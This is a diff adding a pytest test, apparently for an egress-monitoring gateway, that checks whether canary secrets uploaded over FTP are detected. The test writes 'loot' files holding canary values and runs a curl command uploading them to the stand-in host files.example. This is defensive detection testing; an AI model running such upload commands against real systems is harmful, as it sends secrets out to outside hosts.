@@ -74,3 +74,18 @@ def test_the_box_is_heard_out_where_the_talker_dies_and_a_second_one_is_started(
     log = g.stop()
     assert log.cut["gateway_errors"] == 1
     assert CANARIES[1].id in {hit.canary for hit in log.hits}
+
+
+def test_an_upload_is_the_conversations_own_whatever_it_begins_like(
+    pair: NetPair, gateway: Start, tmp_path: Path
+) -> None:
+    g = gateway()
+    begins = (b"GET / HTTP/1.1\r\n\r\n", b"POST /x HTTP/1.1\r\nHost: a.example\r\n\r\n", b"\x05\x01\x00")
+    for number, (begin, canary) in enumerate(zip(begins, CANARIES, strict=False)):
+        (tmp_path / f"loot{number}").write_bytes(begin + canary.value.encode() + b"\n")
+        done = pair.run(f"curl -sS -T {tmp_path}/loot{number} ftp://files.example/in/", ENV)
+        assert done.returncode == 0, (done.stderr, g._words())
+    log = g.stop()
+    assert sorted(c.kind for c in log.connections if c.protocol == "tcp") == ["ftp"] * 3 + ["ftp-data"] * 3
+    assert not log.requests
+    assert {hit.canary for hit in log.hits} >= {canary.id for canary in CANARIES[:3]}
